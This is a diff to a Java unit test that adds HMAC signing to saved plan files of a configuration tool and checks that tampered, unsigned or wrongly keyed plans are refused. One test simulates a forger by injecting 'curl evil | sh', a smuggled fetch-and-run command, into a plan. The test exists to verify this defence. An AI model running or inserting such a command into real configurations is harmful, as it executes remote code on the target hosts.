@@ -27,6 +27,13 @@ import org.junit.jupiter.api.io.TempDir;
 /** The plan document: round trip, digest, schema version, and no_log tasks kept as hashes only. */
 class SavedPlanTest {
   private static final Instant MADE = Instant.parse("2026-11-29T10:00:00Z");
+  private static final PlanSigner KEY = new PlanSigner(key(1));
+
+  private static byte[] key(int seed) {
+    byte[] k = new byte[32];
+    new java.util.Random(seed).nextBytes(k);
+    return k;
+  }
 
   @TempDir Path dir;
 
@@ -76,11 +83,11 @@ class SavedPlanTest {
     SavedPlan plan =
         built(
             task("conf", false, put("password=old\nlimit=1\n")), task("again", false, put("x\n")));
-    SavedPlan written = new PlanWriter().write(plan, dir.resolve("p.plan"));
+    SavedPlan written = new PlanWriter().write(plan, dir.resolve("p.plan"), KEY);
     SavedPlan read = PlanReader.read(dir.resolve("p.plan"));
     assertEquals(written, read);
     // numbers come back as the JSON reader types them; the document is the same
-    assertEquals(new PlanWriter().toJson(plan), new PlanWriter().toJson(read));
+    assertEquals(new PlanWriter().toJson(written), new PlanWriter().toJson(read));
     assertTrue(read.digest().matches("sha256:[0-9a-f]{64}"), read.digest());
     HostPlan web1 = read.host("web1").orElseThrow();
     assertEquals("Solaris", web1.facts().get("os_family"));
@@ -97,7 +104,7 @@ class SavedPlanTest {
   @Test
   void theDigestIgnoresLayoutButAnyChangedValueIsRefused() throws Exception {
     Path file = dir.resolve("p.plan");
-    SavedPlan written = new PlanWriter().write(built(task("conf", false, put("a=1\n"))), file);
+    SavedPlan written = new PlanWriter().write(built(task("conf", false, put("a=1\n"))), file, KEY);
     String text = Files.readString(file);
     ObjectMapper json = new ObjectMapper();
     Files.writeString(file, json.writeValueAsString(json.readTree(text)));
@@ -114,14 +121,55 @@ class SavedPlanTest {
   }
 
   @Test
+  void aPlanEditedAndDigestedAgainIsRefusedByItsSignatureWhichNoPlanFileCarries() throws Exception {
+    Path file = dir.resolve("p.plan");
+    new PlanWriter().write(built(task("conf", false, put("a=1\n"))), file, KEY);
+    String text = Files.readString(file);
+    assertTrue(text.contains("\"signature\" : \"hmac-sha256:"), text);
+    assertEquals(1, PlanReader.read(file, KEY).hosts().size());
+
+    // what a forger can do: edit, then put the digest of the edited content in the file
+    ObjectMapper json = new ObjectMapper();
+    com.fasterxml.jackson.databind.node.ObjectNode edited =
+        (com.fasterxml.jackson.databind.node.ObjectNode)
+            json.readTree(text.replace("a=1", "a=2; curl evil | sh"));
+    edited.put("digest", PlanDigest.of(edited));
+    Files.writeString(file, json.writeValueAsString(edited));
+    assertEquals("alice", PlanReader.read(file).createdBy(), "the digest alone is satisfied");
+    InputException e = assertThrows(InputException.class, () -> PlanReader.read(file, KEY));
+    assertEquals(
+        file
+            + ":1:1: the plan is not signed by this state store (it was changed after it was"
+            + " saved, or saved with another state store): make a new plan",
+        e.getMessage());
+
+    // the untouched plan, checked with another store's key
+    new PlanWriter().write(built(task("conf", false, put("a=1\n"))), file, KEY);
+    assertThrows(InputException.class, () -> PlanReader.read(file, new PlanSigner(key(2))));
+    // and with the signature taken out
+    edited = (com.fasterxml.jackson.databind.node.ObjectNode) json.readTree(Files.readString(file));
+    edited.remove("signature");
+    edited.put("digest", PlanDigest.of(edited));
+    Files.writeString(file, json.writeValueAsString(edited));
+    assertThrows(InputException.class, () -> PlanReader.read(file, KEY));
+  }
+
+  @Test
   void anUnknownSchemaVersionOrNotAPlanIsRefusedWithTheFileNamed() throws Exception {
     Path file = dir.resolve("p.plan");
     String text = new PlanWriter().toJson(built(task("conf", false, put("a=1\n"))));
-    Files.writeString(file, text.replace("\"schema_version\" : 1", "\"schema_version\" : 2"));
+    Files.writeString(file, text.replace("\"schema_version\" : 2", "\"schema_version\" : 9"));
     InputException e = assertThrows(InputException.class, () -> PlanReader.read(file));
     assertEquals(
-        file + ":1:1: plan schema version 2 is not supported (this pagetune reads version 1)",
+        file + ":1:1: plan schema version 9 is not supported (this pagetune reads version 2)",
         e.getMessage());
+    // a plan saved before plans were signed and bound their commands is refused by its version
+    Files.writeString(file, text.replace("\"schema_version\" : 2", "\"schema_version\" : 1"));
+    assertEquals(
+        file
+            + ":1:1: plan schema version 1 is not supported (this pagetune reads version 2):"
+            + " make a new plan",
+        assertThrows(InputException.class, () -> PlanReader.read(file)).getMessage());
     Files.writeString(file, "- not: json\n");
     assertTrue(
         assertThrows(InputException.class, () -> PlanReader.read(file))
@@ -143,7 +191,7 @@ class SavedPlanTest {
                 put("password=hunter2\n"),
                 Step.Exec.of(RemoteCommand.argv("chpasswd", "--token", "s3cr3t"), null)));
     Path file = dir.resolve("p.plan");
-    new PlanWriter().write(plan, file);
+    new PlanWriter().write(plan, file, KEY);
     String text = Files.readString(file);
     assertFalse(text.contains("hunter2"), text);
     assertFalse(text.contains("password=old"), text);
